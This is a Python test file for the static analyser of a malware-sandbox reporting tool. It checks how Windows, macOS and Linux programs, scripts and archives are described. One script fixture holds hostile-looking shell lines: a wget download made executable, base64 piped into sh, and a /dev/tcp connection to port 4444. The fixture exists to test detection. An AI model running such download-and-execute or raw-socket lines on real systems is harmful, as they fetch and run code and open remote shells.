"""What the report says of programs, scripts and archives that are only looked at."""

from __future__ import annotations

import gzip
import hashlib
import io
import random
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import msgspec
import pytest
import pyzipper

from cuckoo_api.reporting.bounds import Notes
from cuckoo_api.reporting.evidence import Evidence
from cuckoo_api.reporting.job import Job
from cuckoo_api.reporting.processors import static
from cuckoo_api.reporting.processors.formats import archive as archive_format

pytestmark = pytest.mark.slow

Put = Callable[[bytes], None]
Static = Callable[..., dict[str, Any]]


def launcher() -> bytes:
    """A real Windows program: what pip puts before a script on Windows."""
    spec = find_spec("distlib")
    assert spec is not None
    assert spec.origin is not None
    return Path(spec.origin).with_name("t64.exe").read_bytes()


def mach_o() -> bytes:
    """A macOS program with a segment, a library, an entry point and an identifier."""
    segment = struct.pack(
        "<II16sQQQQiiII16s16sQQIIIIIIII",
        0x19, 72 + 80, b"__TEXT", 0x100000000, 0x1000, 0, 0x1000, 5, 5, 1, 0,
        b"__text", b"__TEXT", 0x100000F00, 0x10, 0xF00, 0, 0, 0, 0x80000400, 0, 0, 0,
    )  # fmt: skip
    library = struct.pack("<IIIIII", 0xC, 56, 24, 2, 0x10000, 0x10000)
    library += b"/usr/lib/libSystem.B.dylib".ljust(32, b"\0")
    entry = struct.pack("<IIQQ", 0x80000028, 24, 0xF00, 0)
    identifier = struct.pack("<II16s", 0x1B, 24, bytes(range(16)))
    commands = segment + library + entry + identifier
    header = struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 4, len(commands), 0x200085, 0)
    return (header + commands).ljust(0xF00, b"\0") + bytes(range(16)) + bytes(0xF0)


@pytest.fixture
def look(folder: Path, sample: Put, evidence: Evidence, job: Job, notes: Notes) -> Static:
    """The section for a sample; any earlier sample goes."""

    def described(content: bytes, name: str = "sample") -> dict[str, Any]:
        (folder / "binary").unlink(missing_ok=True)
        sample(content)
        return static.run(evidence, msgspec.structs.replace(job, target=f"/x/{name}"), notes)

    return described


def test_a_windows_program_in_cuckoo_s_shape(look: Static, notes: Notes) -> None:
    found = look(launcher())

    assert found["pe_header"]["machine"] == "AMD64"
    assert found["pe_timestamp"] == "2022-08-06 06:41:05"
    assert found["imported_dll_count"] == len(found["pe_imports"]) == 2
    assert found["pe_imports"][0]["dll"] == "KERNEL32.dll"
    assert {"address": "0x140010000", "name": "ExitProcess"} in found["pe_imports"][0]["imports"]
    [text] = [section for section in found["pe_sections"] if section["name"] == ".text"]
    assert (text["virtual_address"], text["size_of_data"]) == ("0x00001000", "0x0000f000")
    assert 5 < text["entropy"] < 7
    assert text["flags"] == ["EXECUTE", "READ"]
    [manifest] = [r for r in found["pe_resources"] if r["name"] == "RT_MANIFEST"]
    assert manifest["language"] == "LANG_ENGLISH"
    assert {"name": "OriginalFilename", "value": "t64.exe"} in found["pe_versioninfo"]
    assert found["pdb_path"].endswith("t64.pdb")
    assert found["pe_authenticode"]["verdict"] == "NO_SIGNATURE"
    assert (found["peid_signatures"], found["signature"], found["pe_overlay"]) == ([], [], None)
    assert notes.lines == []


def test_the_import_hash_is_the_one_that_others_compute(look: Static) -> None:
    found = look(launcher())

    names = [
        f"{library['dll'].lower().rpartition('.')[0]}.{entry['name'].lower()}"
        for library in found["pe_imports"]
        for entry in library["imports"]
    ]
    assert found["pe_imphash"] == hashlib.md5(",".join(names).encode()).hexdigest()


def test_a_packer_and_what_is_glued_behind_a_program(look: Static) -> None:
    packed = launcher().replace(b".text\0\0\0", b"UPX0\0\0\0\0", 1)

    found = look(packed + b"PK\x03\x04" + bytes(96))

    assert found["peid_signatures"] == ["UPX"]
    assert found["pe_header"]["entry_section"] == "UPX0"
    assert found["pe_overlay"]["size"] == 100
    assert found["pe_overlay"]["offset"] == hex(len(packed)).replace("0x", "0x000")


def test_who_signed_a_program_and_whether_it_was_changed_since(
    look: Static, tmp_path: Path
) -> None:
    key, certificate, plain, signed = (tmp_path / n for n in ("key", "crt", "p.exe", "s.exe"))
    plain.write_bytes(launcher())
    subject = "/C=DE/L=Ulm/O=Acme, Inc./CN=Acme Code/emailAddress=a@acme.test"
    for command in (
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "9",
         "-keyout", key, "-out", certificate, "-subj", subject],
        ["osslsigncode", "sign", "-certs", certificate, "-key", key, "-h", "sha256",
         "-in", plain, "-out", signed],
    ):  # fmt: skip
        subprocess.run(command, check=True, capture_output=True)

    found = look(signed.read_bytes())

    [signer] = found["signature"]
    assert (signer["organization"], signer["common_name"]) == ("Acme, Inc.", "Acme Code")
    assert (signer["country"], signer["email"]) == ("DE", "a@acme.test")
    assert found["pe_authenticode"]["verdict"] == "OK"
    assert found["pe_authenticode"]["signers"][0]["digest_algorithm"] == "SHA_256"
    assert found["pe_overlay"] is None
    changed = bytearray(signed.read_bytes())
    changed[0x600] ^= 1
    assert "BAD_DIGEST" in look(bytes(changed))["pe_authenticode"]["verdict"]


def test_a_macos_program(look: Static, notes: Notes) -> None:
    [found] = look(mach_o())["macho"]["architectures"]

    assert (found["header"]["cpu"], found["header"]["type"]) == ("X86_64", "EXECUTE")
    assert found["libraries"] == ["/usr/lib/libSystem.B.dylib"]
    assert found["uuid"] == "00010203-0405-0607-0809-0a0b0c0d0e0f"
    [section] = found["sections"]
    assert (section["name"], section["entropy"]) == ("__text", 4.0)
    assert found["segments"][0]["protection"] == "r-x"
    assert found["signature"] == {"signed": False, "size": 0}
    assert notes.lines == []


def test_programs_that_are_none(look: Static, notes: Notes) -> None:
    assert look(b"MZ" + b"\xff" * 200) == {}
    assert look(b"\xca\xfe\xba\xbe\0\0\0\2" + b"\xff" * 200)["macho"] == {}
    # a compiled Java class
    assert look(b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\xff" * 200) == {}
    assert notes.lines == [
        "static: the file begins as a Windows program and is none",
        "static: the file begins as a Mach-O file and is none",
    ]


def test_a_number_that_the_parser_has_no_word_for_stays_a_number(look: Static) -> None:
    program = bytearray(Path("/bin/true").read_bytes())
    program[16:18] = (4_321).to_bytes(2, "little")

    assert look(bytes(program))["elf"]["header"]["type"] == "4321"


@pytest.mark.parametrize("make", [launcher, mach_o, lambda: Path("/bin/true").read_bytes()])
def test_damaged_programs_give_a_section_that_json_can_carry(
    look: Static, make: Callable[[], bytes]
) -> None:
    whole = make()
    dice = random.Random(7)
    for _ in range(15):
        damaged = bytearray(whole[: dice.choice((400, 4_000, len(whole)))])
        for _ in range(30):
            damaged[dice.randrange(4, min(len(damaged), 2_000))] = dice.randrange(256)
        msgspec.json.encode(look(bytes(damaged)))


@pytest.mark.parametrize(
    ("name", "content", "language"),
    [
        ("x", b"#! /usr/bin/env -S python3 -u\nprint()\n", "python"),
        ("x", b"#!/bin/dash\n:\n", "shell"),
        ("x", b"#!/opt/own/tool -x\n", "tool"),
        ("run.PS1", b"Write-Host 1\r\n", "powershell"),
        ("a.vbs", "WScript.Echo 1".encode("utf-16"), "vbscript"),
    ],
)
def test_the_language_of_a_script(look: Static, name: str, content: bytes, language: str) -> None:
    assert look(content, name)["script"]["language"] == language


def test_what_a_script_has_in_it(look: Static) -> None:
    found = look(
        b"#!/bin/sh -e\nwget http://e.test/p -O /tmp/p\nchmod +x /tmp/p\n"
        b"echo " + b"QUJD" * 50 + b" | base64 -d | sh\nexec 3<>/dev/tcp/192.0.2.1/4444\n"
    )["script"]

    assert (found["interpreter"], found["arguments"]) == ("/bin/sh", "-e")
    assert (found["lines"], found["longest_line"], found["encoded_blocks"]) == (5, 222, 1)
    assert found["notable"] == {
        "decodes_base64": 1,
        "downloads": 1,
        "opens_connections": 1,
        "makes_executable": 1,
    }


def test_text_that_is_no_script(look: Static) -> None:
    assert look(b"plain") == look(b"plain", "notes.txt") == look(b"") == {}
    assert look(b"\0\1\2", "x.ps1") == {}


def zipped(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()


def tarred(size: int) -> bytes:
    """A compressed tar file with an empty file after one of so many bytes."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz", compresslevel=1) as archive:
        for name, length in (("big", size), ("after", 0)):
            entry = tarfile.TarInfo(name)
            entry.size = length
            archive.addfile(entry, io.BytesIO(bytes(length)))
    return made.getvalue()


def test_an_archive_is_listed(look: Static, notes: Notes) -> None:
    found = look(zipped({"a.js": b"x" * 10, "in/b.exe": b""}))["archive"]

    assert found == {
        "format": "zip",
        "files": [
            {"name": "a.js", "type": "file", "size": 10, "encrypted": False},
            {"name": "in/b.exe", "type": "file", "size": 0, "encrypted": False},
        ],
        "unpacked_size": 10,
        "encrypted": False,
    }
    assert look(tarred(5))["archive"]["format"] == "tar.gzip"
    assert look(gzip.compress(b"x"))["archive"] == {
        "format": "gzip", "files": [], "unpacked_size": 0, "encrypted": False,
    }  # fmt: skip
    assert notes.lines == []


def test_a_document_that_is_packed_like_an_archive_is_listed_too(look: Static) -> None:
    word = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})

    assert [file["name"] for file in look(word)["archive"]["files"]] == [
        "[Content_Types].xml",
        "word/document.xml",
    ]


def test_a_list_ends_where_it_gets_too_long_or_broken(
    look: Static, notes: Notes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archive_format, "MAX_FILES", 2)
    monkeypatch.setattr(archive_format, "MAX_UNPACKED", 1_000)
    whole = zipped({f"{n}": random.Random(n).randbytes(400) for n in range(3)})

    assert len(look(whole)["archive"]["files"]) == 2
    assert [file["name"] for file in look(tarred(2_000))["archive"]["files"]] == ["big"]
    assert len(look(whole[:400])["archive"]["files"]) == 1
    first, second, third = notes.lines
    assert first == "static.archive.files: cut at 2"
    assert second == "static.archive.files: cut at an entry that is very large"
    assert third.startswith("static: the archive cannot be read to its end: Truncated")


def test_an_encrypted_archive_says_so(look: Static) -> None:
    made = io.BytesIO()
    with pyzipper.AESZipFile(made, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"infected")
        archive.writestr("a", b"secret")

    assert look(made.getvalue())["archive"]["encrypted"]
